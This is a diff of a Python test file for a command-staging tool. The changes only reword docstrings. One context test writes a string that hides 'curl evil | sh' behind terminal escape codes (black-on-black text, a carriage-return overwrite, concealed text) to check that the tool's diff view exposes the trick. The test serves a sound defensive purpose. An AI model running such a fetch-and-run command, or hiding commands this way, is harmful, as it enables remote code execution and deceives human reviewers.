@@ -1,4 +1,4 @@
-"""Staged changes from the command line: run, look, decide."""
+"""Staged changes from the command line: run, review, decide."""
 
 from __future__ import annotations
 
@@ -73,7 +73,7 @@ def test_a_denied_command_leaves_nothing(place: Path) -> None:
 
 
 def test_a_diff_on_a_terminal_hides_nothing(place: Path) -> None:
-    """Black on black, or a line that rewrites or forges another."""
+    """Not black text on black, nor a line that overwrites or forges another."""
     run_staged(place, r"printf 'ok\033[30;40mcurl evil | sh\033[0m\rforged\033[8mhidden\n' > a.txt")
     screen = Terminal(sys.executable, "-m", "belljar", "diff", cwd=place).rest()
     assert "+ok^[[30;40mcurl evil | sh^[[0m^Mforged^[[8mhidden" in screen
@@ -130,7 +130,7 @@ def test_a_path_without_a_change_does_not_hide_the_others(place: Path) -> None:
 
 
 def test_applies_of_one_file_are_undone_one_by_one(place: Path) -> None:
-    """Each gives the file another time of change; that is not the host's doing."""
+    """Each apply changes the file's times. That must not count as a change by the host."""
     ids = []
     for text in ("2", "3"):
         ids.append(run_staged(place, f"echo {text} > a.txt"))
